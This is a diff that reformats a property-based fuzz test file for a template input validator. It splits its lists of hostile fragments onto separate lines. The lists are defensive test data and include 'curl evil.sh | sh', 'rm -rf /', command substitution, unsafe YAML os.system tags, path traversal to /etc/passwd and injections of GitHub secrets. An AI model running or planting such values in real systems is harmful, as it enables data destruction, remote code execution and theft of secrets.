@@ -56,32 +56,171 @@ export function applyChanges(changes: Changes): Record<string, unknown> {
  */
 export const HOSTILE_FRAGMENTS = [
   // quotes, escapes, YAML indicators
-  '"', "'", '\\', '\\"', "\\'", ':', ': ', ' #', '#', '# not a comment', ',', '[', ']', '{', '}', '|', '|-', '>-', '|+', '%', '@', '`', '!', '&', '*', '?', '~', '=',
+  '"',
+  "'",
+  '\\',
+  '\\"',
+  "\\'",
+  ':',
+  ': ',
+  ' #',
+  '#',
+  '# not a comment',
+  ',',
+  '[',
+  ']',
+  '{',
+  '}',
+  '|',
+  '|-',
+  '>-',
+  '|+',
+  '%',
+  '@',
+  '`',
+  '!',
+  '&',
+  '*',
+  '?',
+  '~',
+  '=',
   // structure at the start of a line
-  '- ', '? ', '\n- ', '\n? ', '\n  - item', '\nkey: value', '\nspec: {owner: evil}', '\n  owner: evil', '\nmetadata:\n  name: evil',
+  '- ',
+  '? ',
+  '\n- ',
+  '\n? ',
+  '\n  - item',
+  '\nkey: value',
+  '\nspec: {owner: evil}',
+  '\n  owner: evil',
+  '\nmetadata:\n  name: evil',
   // anchors, aliases, tags, directives
-  '&a', '&a ', '*a', '<<: *a', '!!python/object:os.system', '!!python/object/apply:os.system ["id"]', '!!binary', '!!str', '!<tag:yaml.org,2002:str>', '%YAML 1.1', '%TAG ! tag:evil,2000:',
+  '&a',
+  '&a ',
+  '*a',
+  '<<: *a',
+  '!!python/object:os.system',
+  '!!python/object/apply:os.system ["id"]',
+  '!!binary',
+  '!!str',
+  '!<tag:yaml.org,2002:str>',
+  '%YAML 1.1',
+  '%TAG ! tag:evil,2000:',
   // document markers
-  '---', '...', '\n---\n', '\n...\n', '--- !!map', '---\nkind: Secret',
+  '---',
+  '...',
+  '\n---\n',
+  '\n...\n',
+  '--- !!map',
+  '---\nkind: Secret',
   // line breaks and blanks
-  '\n', '\r', '\r\n', '\t', ' ', '  ', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c',
+  '\n',
+  '\r',
+  '\r\n',
+  '\t',
+  ' ',
+  '  ',
+  '\u2028',
+  '\u2029',
+  '\u0085',
+  '\u000b',
+  '\u000c',
   // invisible and bidirectional characters
-  '\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u202e', '\u202d', '\u2066', '\u2067', '\u2069', '\u061c', '\u200f', '\u00a0',
+  '\u200b',
+  '\u200c',
+  '\u200d',
+  '\u2060',
+  '\ufeff',
+  '\u202e',
+  '\u202d',
+  '\u2066',
+  '\u2067',
+  '\u2069',
+  '\u061c',
+  '\u200f',
+  '\u00a0',
   // Nunjucks and GitHub expressions
-  '{{ values.name }}', '{{ 7*7 }}', '{% if true %}x{% endif %}', '{% raw %}', '{% endraw %}', '{#', '#}', '{%- set x = 1 -%}',
-  '${{ secrets.AWS_KEY }}', '${{ github.token }}', '${{ parameters.owner }}', '${{ steps.validate.output.name }}', '${{', '}}', '${{ inputs.environment }}',
+  '{{ values.name }}',
+  '{{ 7*7 }}',
+  '{% if true %}x{% endif %}',
+  '{% raw %}',
+  '{% endraw %}',
+  '{#',
+  '#}',
+  '{%- set x = 1 -%}',
+  '${{ secrets.AWS_KEY }}',
+  '${{ github.token }}',
+  '${{ parameters.owner }}',
+  '${{ steps.validate.output.name }}',
+  '${{',
+  '}}',
+  '${{ inputs.environment }}',
   // shell
-  '$(id)', '`id`', '; rm -rf /', '&& curl evil.sh | sh', '>', '<', '$HOME', '${IFS}', '\\$', '\\\n',
+  '$(id)',
+  '`id`',
+  '; rm -rf /',
+  '&& curl evil.sh | sh',
+  '>',
+  '<',
+  '$HOME',
+  '${IFS}',
+  '\\$',
+  '\\\n',
   // paths
-  '../', '../../etc/passwd', '..', '/', '//', './', '..\\..\\', '%2e%2e%2f', 'C:\\', '~/.ssh',
+  '../',
+  '../../etc/passwd',
+  '..',
+  '/',
+  '//',
+  './',
+  '..\\..\\',
+  '%2e%2e%2f',
+  'C:\\',
+  '~/.ssh',
   // control characters (NUL, ESC, DEL, C1)
-  '\u0000', '\u0001', '\u001b[31m', '\u007f', '\u009b',
+  '\u0000',
+  '\u0001',
+  '\u001b[31m',
+  '\u007f',
+  '\u009b',
   // Unicode odds and ends, lone surrogates included
-  '\ud800', '\udfff', '😀', 'é', 'e\u0301', '中文', 'ﬁ', 'İ', 'ǅ',
+  '\ud800',
+  '\udfff',
+  '😀',
+  'é',
+  'e\u0301',
+  '中文',
+  'ﬁ',
+  'İ',
+  'ǅ',
   // scalars that YAML 1.1 or 1.2 read as something other than a string
-  'true', 'false', 'null', 'Null', 'yes', 'no', 'on', 'off', 'y', 'n', '0x1F', '0o17', '012', '1e3', '1_000', '1:30', '.inf', '.nan', '-', '0', '-1',
+  'true',
+  'false',
+  'null',
+  'Null',
+  'yes',
+  'no',
+  'on',
+  'off',
+  'y',
+  'n',
+  '0x1F',
+  '0o17',
+  '012',
+  '1e3',
+  '1_000',
+  '1:30',
+  '.inf',
+  '.nan',
+  '-',
+  '0',
+  '-1',
   // near-miss values
-  'group:default/x', 'component:default/x', 'github.com?owner=a&repo=b', '10GB', '/data',
+  'group:default/x',
+  'component:default/x',
+  'github.com?owner=a&repo=b',
+  '10GB',
+  '/data',
 ];
 
 const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f]/;
@@ -111,7 +250,10 @@ export const hostileText: fc.Arbitrary<string> = fc.oneof(
   {
     weight: 1,
     arbitrary: fc
-      .tuple(fc.constantFrom('x', 'ab', '"', '\\', '\n- ', '😀', '\u2028', '${{ secrets.X }}'), fc.integer({ min: 100, max: 4000 }))
+      .tuple(
+        fc.constantFrom('x', 'ab', '"', '\\', '\n- ', '😀', '\u2028', '${{ secrets.X }}'),
+        fc.integer({ min: 100, max: 4000 }),
+      )
       .map(([piece, length]) => piece.repeat(Math.ceil(length / piece.length))),
   },
 );
@@ -130,12 +272,10 @@ const wrongType: fc.Arbitrary<unknown> = fc.oneof(
 
 /** A valid value with hostile text before, after or inside it. */
 function nearValid(valid: fc.Arbitrary<string>): fc.Arbitrary<string> {
-  return fc
-    .tuple(valid, textOf(HOSTILE_FRAGMENTS, 3), fc.nat())
-    .map(([v, h, at]) => {
-      const i = at % (v.length + 1);
-      return v.slice(0, i) + h + v.slice(i);
-    });
+  return fc.tuple(valid, textOf(HOSTILE_FRAGMENTS, 3), fc.nat()).map(([v, h, at]) => {
+    const i = at % (v.length + 1);
+    return v.slice(0, i) + h + v.slice(i);
+  });
 }
 
 // ---------------------------------------------------------------------------
@@ -148,7 +288,25 @@ const validName = fc.oneof(
   { weight: 1, arbitrary: fc.stringMatching(/^[a-z][-a-z0-9]{38,50}[a-z0-9]$/) },
   {
     weight: 2,
-    arbitrary: fc.constantFrom('my-redis', 'a', 'x'.repeat(52), 'a--b', 'true', 'false', 'null', 'yes', 'no', 'on', 'off', 'y', 'n', 'e5', 'inf', 'nan', 'x0'),
+    arbitrary: fc.constantFrom(
+      'my-redis',
+      'a',
+      'x'.repeat(52),
+      'a--b',
+      'true',
+      'false',
+      'null',
+      'yes',
+      'no',
+      'on',
+      'off',
+      'y',
+      'n',
+      'e5',
+      'inf',
+      'nan',
+      'x0',
+    ),
   },
 );
 
@@ -180,20 +338,28 @@ const validStorageSize = fc.oneof(
   fc.integer({ min: 2, max: 17000 }).map(n => `${n}G`),
   fc.integer({ min: 1, max: 17 }).map(n => `${n}T`),
   fc.integer({ min: 1100, max: 90000 }).map(n => `${n}M`),
-  fc.tuple(fc.integer({ min: 1, max: 15 }), fc.constantFrom('5', '25', '125', '0', '00', '75')).map(([n, f]) => `${n}.${f}Ti`),
+  fc
+    .tuple(fc.integer({ min: 1, max: 15 }), fc.constantFrom('5', '25', '125', '0', '00', '75'))
+    .map(([n, f]) => `${n}.${f}Ti`),
   fc.tuple(fc.integer({ min: 1, max: 999 }), fc.constantFrom('5', '25', '0', '1', '3')).map(([n, f]) => `${n}.${f}Gi`),
 );
 
 const pathSegment = fc.stringMatching(/^[A-Za-z0-9._-]{1,12}$/);
 const validMountPath = fc
-  .tuple(fc.array(pathSegment, { minLength: 1, maxLength: 5 }), fc.constantFrom('', '/', '//'), fc.constantFrom('/', '//', '/./'))
+  .tuple(
+    fc.array(pathSegment, { minLength: 1, maxLength: 5 }),
+    fc.constantFrom('', '/', '//'),
+    fc.constantFrom('/', '//', '/./'),
+  )
   .map(([segments, trailing, separator]) => `/${segments.join(separator)}${trailing}`);
 
 const githubOwner = fc.stringMatching(/^[A-Za-z0-9]([A-Za-z0-9-]{0,12}[A-Za-z0-9])?$/);
 const githubRepo = fc.stringMatching(/^[A-Za-z0-9._-]{1,30}$/);
 const validRepoUrl = fc
   .tuple(fc.constantFrom('github.com', 'GitHub.com'), githubOwner, githubRepo, fc.boolean())
-  .map(([host, owner, repo, swap]) => (swap ? `${host}?repo=${repo}&owner=${owner}` : `${host}?owner=${owner}&repo=${repo}`));
+  .map(([host, owner, repo, swap]) =>
+    swap ? `${host}?repo=${repo}&owner=${owner}` : `${host}?owner=${owner}&repo=${repo}`,
+  );
 
 export const VALID: Record<Field, fc.Arbitrary<unknown>> = {
   component_id: validName,
@@ -233,10 +399,41 @@ const hostileNumber = (valid: fc.Arbitrary<number>, specials: unknown[]) =>
   );
 
 export const HOSTILE: Record<Field, fc.Arbitrary<unknown>> = {
-  component_id: hostileString(validName, ['My-App', 'my_app', 'my.app', '-app', 'app-', '1app', 'x'.repeat(53), 'app\n', ' app', 'app ', '../app', 'app/../x', '${{ secrets.X }}', 'a{{x}}']),
+  component_id: hostileString(validName, [
+    'My-App',
+    'my_app',
+    'my.app',
+    '-app',
+    'app-',
+    '1app',
+    'x'.repeat(53),
+    'app\n',
+    ' app',
+    'app ',
+    '../app',
+    'app/../x',
+    '${{ secrets.X }}',
+    'a{{x}}',
+  ]),
   description: fc.oneof(
-    { weight: 3, arbitrary: hostileString(validDescription, ['x'.repeat(501), 'a\u0000b', 'a\rb', 'a\u001bb', 'a\ud800b', 'line\r\nbreak']) },
-    { weight: 2, arbitrary: textOf(HOSTILE_FRAGMENTS.filter(f => CONTROL.test(f) || LONE_SURROGATE.test(f)), 4).chain(bad => nearValid(fc.constant(bad))) },
+    {
+      weight: 3,
+      arbitrary: hostileString(validDescription, [
+        'x'.repeat(501),
+        'a\u0000b',
+        'a\rb',
+        'a\u001bb',
+        'a\ud800b',
+        'line\r\nbreak',
+      ]),
+    },
+    {
+      weight: 2,
+      arbitrary: textOf(
+        HOSTILE_FRAGMENTS.filter(f => CONTROL.test(f) || LONE_SURROGATE.test(f)),
+        4,
+      ).chain(bad => nearValid(fc.constant(bad))),
+    },
     { weight: 1, arbitrary: textOf(DESCRIPTION_FRAGMENTS, 20) },
   ),
   owner: fc.oneof(
@@ -254,11 +451,54 @@ export const HOSTILE: Record<Field, fc.Arbitrary<unknown>> = {
     ]),
     fc.tuple(validOwner, textOf(HOSTILE_FRAGMENTS, 3)).map(([o, h]) => `${o}\n${h}`),
   ),
-  environment: hostileString(fc.constantFrom('dev', 'test', 'staging', 'prod'), ['Dev', 'dev ', 'prod\n', 'dev\u200b', 'qa', 'production', "dev' }}${{ secrets.X", '']),
+  environment: hostileString(fc.constantFrom('dev', 'test', 'staging', 'prod'), [
+    'Dev',
+    'dev ',
+    'prod\n',
+    'dev\u200b',
+    'qa',
+    'production',
+    "dev' }}${{ secrets.X",
+    '',
+  ]),
   replicas: hostileNumber(fc.integer({ min: 1, max: 9 }), [0, 10, -1, 1.5, '3', 1e21, 2 ** 53, -0]),
-  storageSize: hostileString(validStorageSize, ['10GB', '10gi', '10', '0Gi', '0.5Gi', '500Mi', '17Ti', '1e3Gi', '+10Gi', ' 10Gi', '10Gi\n', '1.3Gi', 'Gi', '10Gi # x', '10Gi\nfoo: bar', '9'.repeat(40) + 'Gi']),
+  storageSize: hostileString(validStorageSize, [
+    '10GB',
+    '10gi',
+    '10',
+    '0Gi',
+    '0.5Gi',
+    '500Mi',
+    '17Ti',
+    '1e3Gi',
+    '+10Gi',
+    ' 10Gi',
+    '10Gi\n',
+    '1.3Gi',
+    'Gi',
+    '10Gi # x',
+    '10Gi\nfoo: bar',
+    '9'.repeat(40) + 'Gi',
+  ]),
   storageClass: hostileString(fc.constant('gp3'), ['gp2', 'GP3', 'gp3 ', 'gp3\n', 'io2', '']),
-  mountPath: hostileString(validMountPath, ['/', '//', '/etc', '/etc/x', '/tmp', '/app', '/data/../etc', '../data', 'data', '/data:rw', '/data dir', '/data;rm -rf /', '/da\nta', '/data/${{ secrets.X }}', '/./..', '/' + 'd'.repeat(300)]),
+  mountPath: hostileString(validMountPath, [
+    '/',
+    '//',
+    '/etc',
+    '/etc/x',
+    '/tmp',
+    '/app',
+    '/data/../etc',
+    '../data',
+    'data',
+    '/data:rw',
+    '/data dir',
+    '/data;rm -rf /',
+    '/da\nta',
+    '/data/${{ secrets.X }}',
+    '/./..',
+    '/' + 'd'.repeat(300),
+  ]),
   port: hostileNumber(fc.integer({ min: 1024, max: 65535 }), [80, 1023, 65536, 0, -1, 6379.5, '6379', 1e21, 2 ** 53]),
   repoUrl: fc.oneof(
     hostileString(validRepoUrl, [
